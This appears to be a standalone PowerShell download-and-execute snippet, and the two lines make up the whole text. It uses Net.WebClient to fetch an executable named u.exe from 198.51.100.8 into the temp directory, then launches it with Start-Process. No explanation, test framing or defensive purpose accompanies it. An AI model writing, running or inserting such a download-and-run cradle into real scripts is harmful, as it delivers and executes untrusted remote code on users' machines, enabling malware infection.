(New-Object Net.WebClient).DownloadFile('http://198.51.100.8/u.exe', "$env:TEMP\u.exe")
Start-Process "$env:TEMP\u.exe"
